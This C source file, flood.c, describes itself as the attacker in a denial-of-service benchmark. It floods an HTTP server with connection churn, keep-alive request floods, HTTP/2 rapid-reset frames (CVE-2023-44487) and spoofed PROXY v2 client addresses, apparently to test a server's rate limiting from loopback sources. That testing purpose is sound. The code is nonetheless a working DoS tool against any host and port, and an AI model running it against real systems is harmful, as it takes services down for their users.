/*
 * flood: the attacker of bench/ddos.sh. One thread, epoll, CONNS connections at once, spread over
 * the source addresses 127.0.0.2 .. 127.0.0.(1 + SOURCES), for SECONDS.
 *
 *   conn       a new connection per request (GET, Connection: close), as fast as they go
 *   keepalive  requests back to back on keep-alive connections (reconnecting when closed)
 *   h2reset    HTTP/2 prior knowledge: HEADERS then RST_STREAM at once, again and again
 *              (CVE-2023-44487, "rapid reset"), reconnecting when closed
 *   proxy      as conn, each connection starting with a PROXY v2 header naming a new client
 *              address (10.0.0.0 upwards): an address churn for a PROXY protocol listener
 *
 * FLOOD_MAX=N stops after N connections or requests instead of at SECONDS.
 *
 * Prints one line: mode, attempts (connections or requests sent), answered 2xx, answered 429,
 * answered otherwise, refused (closed or reset before any answer), seconds.
 *
 * Build: cc -O2 -o flood flood.c
 * Usage: flood conn|keepalive|h2reset|proxy HOST PORT CONNS SECONDS [SOURCES] [PATH]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { CONN, KEEPALIVE, H2RESET, PROXY };

struct c {
    int fd;
    int got;       /* bytes of the current answer seen */
    int answered;  /* answers on this connection */
    unsigned sid;  /* next HTTP/2 stream id */
};

static int mode, sources = 8, nconns;
static struct sockaddr_in dst;
static char req[512];
static int reqlen;
static long attempts, ok2xx, r429, other, refused;
static int epfd;
static struct c *cs;
static unsigned next_src, next_client;
static long max_attempts;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* An HPACK literal without indexing, new name, no Huffman. */
static int lit(unsigned char *p, const char *n, const char *v) {
    int i = 0, nl = strlen(n), vl = strlen(v);
    p[i++] = 0;
    p[i++] = nl;
    memcpy(p + i, n, nl);
    i += nl;
    p[i++] = vl;
    memcpy(p + i, v, vl);
    return i + vl;
}

static int frame(unsigned char *p, int len, int type, int flags, unsigned sid) {
    p[0] = len >> 16; p[1] = len >> 8; p[2] = len;
    p[3] = type; p[4] = flags;
    p[5] = sid >> 24; p[6] = sid >> 16; p[7] = sid >> 8; p[8] = sid;
    return 9;
}

static void open_one(struct c *c) {
    struct sockaddr_in src = {.sin_family = AF_INET};
    src.sin_addr.s_addr = htonl(0x7f000002 + (next_src++ % sources));
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    int one = 1;
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    /* Let the kernel pick the port for this source address at connect time. */
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
    struct linger lg = {1, 0}; /* close with RST: no TIME_WAIT piling up on the attacker */
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
    if (bind(fd, (struct sockaddr *)&src, sizeof src) < 0) { close(fd); c->fd = -1; return; }
    connect(fd, (struct sockaddr *)&dst, sizeof dst);
    c->fd = fd; c->got = 0; c->answered = 0; c->sid = 1;
    struct epoll_event ev = {.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP, .data.ptr = c};
    epoll_ctl(epfd, EPOLL_CTL_ADD, fd, &ev);
    if (mode == CONN || mode == PROXY) attempts++;
}

static void drop(struct c *c, int answered_any) {
    if (!answered_any) refused++;
    epoll_ctl(epfd, EPOLL_CTL_DEL, c->fd, NULL);
    close(c->fd);
    open_one(c);
}

static void send_req(struct c *c) {
    if (mode == H2RESET) {
        unsigned char b[4096];
        int n = 0;
        if (c->sid == 1) {
            memcpy(b, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
            n = 24;
            n += frame(b + n, 0, 4, 0, 0);
        }
        for (int k = 0; k < 16; k++) {
            unsigned char hb[128];
            int hl = lit(hb, ":method", "GET");
            hl += lit(hb + hl, ":scheme", "http");
            hl += lit(hb + hl, ":authority", "t");
            hl += lit(hb + hl, ":path", "/hello");
            n += frame(b + n, hl, 1, 0x4 | 0x1, c->sid);
            memcpy(b + n, hb, hl);
            n += hl;
            n += frame(b + n, 4, 3, 0, c->sid);
            b[n++] = 0; b[n++] = 0; b[n++] = 0; b[n++] = 8;
            c->sid += 2;
            attempts++;
        }
        if (write(c->fd, b, n) < 0 && errno != EAGAIN) drop(c, 1);
        return;
    }
    if (mode == PROXY) {
        /* v2 signature, PROXY command, TCP over IPv4, 12 address bytes, then the request. */
        unsigned char b[600];
        static const unsigned char sig[12] = {13, 10, 13, 10, 0, 13, 10, 'Q', 'U', 'I', 'T', 10};
        unsigned a = 0x0a000000 + next_client++;
        memcpy(b, sig, 12);
        b[12] = 0x21; b[13] = 0x11; b[14] = 0; b[15] = 12;
        b[16] = a >> 24; b[17] = a >> 16; b[18] = a >> 8; b[19] = a;
        b[20] = 10; b[21] = 0; b[22] = 0; b[23] = 1;
        b[24] = 0x30; b[25] = 0x39; b[26] = 0; b[27] = 80;
        memcpy(b + 28, req, reqlen);
        if (write(c->fd, b, 28 + reqlen) < 0 && errno != EAGAIN) drop(c, 0);
        return;
    }
    if (write(c->fd, req, reqlen) < 0) { if (errno != EAGAIN) drop(c, c->answered); return; }
    if (mode == KEEPALIVE) attempts++;
}

/* Counts the status of an answer that starts at p. */
static void status(const char *p, int n) {
    if (n >= 12 && memcmp(p, "HTTP/1.", 7) == 0) {
        if (p[9] == '2') ok2xx++;
        else if (memcmp(p + 9, "429", 3) == 0) r429++;
        else other++;
    }
}

int main(int argc, char **argv) {
    if (argc < 6) {
        fprintf(stderr, "usage: flood conn|keepalive|h2reset HOST PORT CONNS SECONDS [SOURCES] [PATH]\n");
        return 2;
    }
    mode = !strcmp(argv[1], "conn")        ? CONN
           : !strcmp(argv[1], "keepalive") ? KEEPALIVE
           : !strcmp(argv[1], "proxy")     ? PROXY
                                           : H2RESET;
    if (getenv("FLOOD_MAX")) max_attempts = atol(getenv("FLOOD_MAX"));
    dst.sin_family = AF_INET;
    inet_pton(AF_INET, argv[2], &dst.sin_addr);
    dst.sin_port = htons(atoi(argv[3]));
    nconns = atoi(argv[4]);
    double secs = atof(argv[5]);
    if (argc > 6) sources = atoi(argv[6]);
    const char *path = argc > 7 ? argv[7] : "/hello";
    reqlen = snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: t\r\n%s\r\n", path,
                      mode == CONN || mode == PROXY ? "Connection: close\r\n" : "");
    epfd = epoll_create1(0);
    cs = calloc(nconns, sizeof *cs);
    for (int i = 0; i < nconns; i++) open_one(&cs[i]);
    double t0 = now(), end = t0 + secs;
    struct epoll_event evs[256];
    char buf[65536];
    while (now() < end && (!max_attempts || attempts < max_attempts)) {
        int n = epoll_wait(epfd, evs, 256, 50);
        for (int i = 0; i < n; i++) {
            struct c *c = evs[i].data.ptr;
            if (c->fd < 0) { open_one(c); continue; }
            if (evs[i].events & EPOLLOUT) {
                struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP, .data.ptr = c};
                epoll_ctl(epfd, EPOLL_CTL_MOD, c->fd, &ev);
                int err = 0; socklen_t l = sizeof err;
                getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &l);
                if (err) { drop(c, 0); continue; }
                send_req(c);
                continue;
            }
            ssize_t r = read(c->fd, buf, sizeof buf);
            if (r <= 0) {
                if (r < 0 && errno == EAGAIN) continue;
                drop(c, c->answered);
                continue;
            }
            if (mode == H2RESET) {
                c->answered = 1;
                send_req(c);
                continue;
            }
            /* One answer per read is close enough for small replies: count it, and go on. */
            if (c->got == 0) status(buf, r);
            c->answered++;
            c->got = 0;
            if (mode == KEEPALIVE) send_req(c);
        }
    }
    printf("%s attempts=%ld ok=%ld r429=%ld other=%ld refused=%ld seconds=%.1f\n", argv[1],
           attempts, ok2xx, r429, other, refused, now() - t0);
    return 0;
}
